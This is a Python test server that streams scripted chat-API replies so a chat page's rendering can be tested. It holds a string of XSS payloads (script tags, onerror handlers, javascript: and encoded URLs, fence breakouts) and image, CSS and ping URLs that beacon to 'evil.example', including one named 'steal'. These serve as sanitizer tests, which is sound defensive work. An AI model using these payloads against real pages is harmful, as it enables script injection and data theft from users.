"""A server for the tests of the chat page: the page itself, and an API that answers by script.

What the last message says decides what comes back: see `script`. No model is needed.
"""

from __future__ import annotations

import asyncio
import json
import threading
from collections.abc import AsyncIterator, Callable, Iterator
from typing import Any

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route

from ingle.server.page import page_routes

SHOWCASE = """# Sorting, in three ways

Sorting is *everywhere*. Here are **three** algorithms, a
[reference](https://en.wikipedia.org/wiki/Sorting_algorithm) and some `code`.

1. Insertion sort: short, and fast for few items
2. Merge sort: stable
   - needs memory
   - is easy to do in parallel
3. Quicksort

```python
from collections import defaultdict


def anagrams(words: list[str]) -> list[list[str]]:
    \"\"\"Groups words that have the same letters.\"\"\"
    groups: dict[str, list[str]] = defaultdict(list)
    for word in words:
        groups["".join(sorted(word))].append(word)  # the letters are the key
    return [group for group in groups.values() if len(group) > 1]


print(anagrams(["listen", "silent", "enlist", "google"]), 42)
```

| Algorithm | Average | Worst | Stable |
|---|:-:|--:|---|
| Insertion sort | n² | n² | yes |
| Merge sort | n log n | n log n | yes |
| Quicksort | n log n | n² | no |

> The best sort is the one you need not do.

- [x] write it
- [ ] measure it

## And on the command line

```bash
sort -u words.txt | head -n 3   # three words, each once
```

A last paragraph says that in a real program you call the library's own function: it was
written by people who measured it on your kind of machine.
"""

XSS = """<script>window.pwned = 1</script> <img src=x onerror="window.pwned = 2">

[click](javascript:window.pwned=3) [data](data:text/html,<script>window.pwned=4</script>) [ok](https://example.org/?a=1&b=2)

![a picture](https://evil.example/steal?what=secret) ![x](data:image/svg+xml;base64,AAAA)

<iframe src="https://evil.example/"></iframe> <svg onload="window.pwned=5"></svg>

<style>body { background: url(https://evil.example/css) }</style>

<a href="https://evil.example/ping" ping="https://evil.example/p">x</a> <link rel=prefetch href="https://evil.example/pre">

[entity](&#106;avascript:window.pwned=6) [rel](/v1/models) [vb](vbscript:x) [ctl](java\tscript:window.pwned=7)

```"><img src=x onerror=window.pwned=8>
</code></pre><script>window.pwned = 9</script>
```

| <img src=x onerror=window.pwned=10> | b |
|---|---|
| <b>raw</b> | `<i>` |
"""

TOOL_CALL = {"index": 0, "id": "call_1", "type": "function", "function": {"name": "set_alarm", "arguments": ""}}


class Stub:
    """What the server was asked, and how it behaves. `key`: what it wants, or None."""

    def __init__(self) -> None:
        self.key: str | None = None
        self.bodies: list[dict[str, Any]] = []
        self.disconnected = threading.Event()
        self.n_answers = 0

    def refuse(self, request: Request) -> Response | None:
        if self.key is None or request.headers.get("authorization") == f"Bearer {self.key}":
            return None
        return failure(401, "The API key is missing or wrong.")

    async def models(self, request: Request) -> Response:
        data = [{"id": name, "object": "model"} for name in ("ingle-tiny", "llama-3.2-1b")]
        return self.refuse(request) or JSONResponse({"object": "list", "data": data})

    async def health(self, request: Request) -> Response:
        return JSONResponse({"status": "ok", "model": "ingle-tiny", "memory_bytes": 166 * 2**20})

    async def chat(self, request: Request) -> Response:
        if refused := self.refuse(request):
            return refused
        body = await request.json()
        self.bodies.append(body)
        self.n_answers += 1
        last = body["messages"][-1]
        text = str(last["content"]).lower()
        if "busy" in text:
            return failure(429, "All slots are taken.", {"Retry-After": "7"})
        return StreamingResponse(self.stream(last["role"], text), media_type="text/event-stream")

    async def stream(self, role: str, text: str) -> AsyncIterator[str]:
        try:
            n = 0
            for delay_s, delta in script(role, text, self.n_answers):
                await asyncio.sleep(delay_s)
                n += 1
                yield event({"choices": [{"index": 0, "delta": delta, "finish_reason": None}]})
            if "break" in text:
                yield event({"error": {"message": "The model stopped working.", "type": "server_error"}})
                return
            finish = "tool_calls" if role == "user" and "alarm" in text else "length" if "long" in text else "stop"
            yield event({"choices": [{"index": 0, "delta": {}, "finish_reason": finish}]})
            yield event({"choices": [], "usage": {"prompt_tokens": 9, "completion_tokens": n, "total_tokens": n + 9}})
            yield "data: [DONE]\n\n"
        except (asyncio.CancelledError, GeneratorExit):
            self.disconnected.set()
            raise


def script(role: str, text: str, n: int) -> Iterator[tuple[float, dict[str, Any]]]:
    """Delays in seconds and deltas."""
    yield 0.0, {"role": "assistant", "content": ""}
    if role == "tool":
        yield from ((0.005, {"content": word}) for word in pieces("The alarm is set."))
    elif "alarm" in text:
        yield 0.0, {"tool_calls": [TOOL_CALL]}
        for part in ('{"time"', ': "7:30', '"}'):
            yield 0.005, {"tool_calls": [{"index": 0, "function": {"arguments": part}}]}
    elif "slow" in text:
        yield from ((0.03, {"content": f"word{i} "}) for i in range(400))
    elif "sorting" in text:
        yield from ((0.0, {"content": part}) for part in pieces(SHOWCASE))
    elif "attack" in text:
        yield from ((0.0, {"content": part}) for part in pieces(XSS))
    elif "think" in text:
        yield from ((0.0, {"content": part}) for part in pieces("<think>Hmm, so.</think>\n\nForty-two."))
    else:
        yield from ((0.005, {"content": part}) for part in pieces(f"Answer {n} to “{text}”. It is **short**."))


def pieces(text: str) -> Iterator[str]:
    """Of five characters: they cut words and Markdown anywhere, as tokens do."""
    return (text[at : at + 5] for at in range(0, len(text), 5))


def event(body: dict[str, Any]) -> str:
    return f"data: {json.dumps(body)}\n\n"


def failure(status: int, message: str, headers: dict[str, str] | None = None) -> Response:
    body = {"error": {"message": message, "type": "error", "param": None, "code": None}}
    return JSONResponse(body, status_code=status, headers=headers)


def stub_app(current: Callable[[], Stub]) -> Starlette:
    """The page, and the API that it asks: answered by whatever stub is the current one."""

    async def models(request: Request) -> Response:
        return await current().models(request)

    async def health(request: Request) -> Response:
        return await current().health(request)

    async def chat(request: Request) -> Response:
        return await current().chat(request)

    return Starlette(
        routes=[
            Route("/v1/models", models),
            Route("/health", health),
            Route("/v1/chat/completions", chat, methods=["POST"]),
            *page_routes(),
        ]
    )
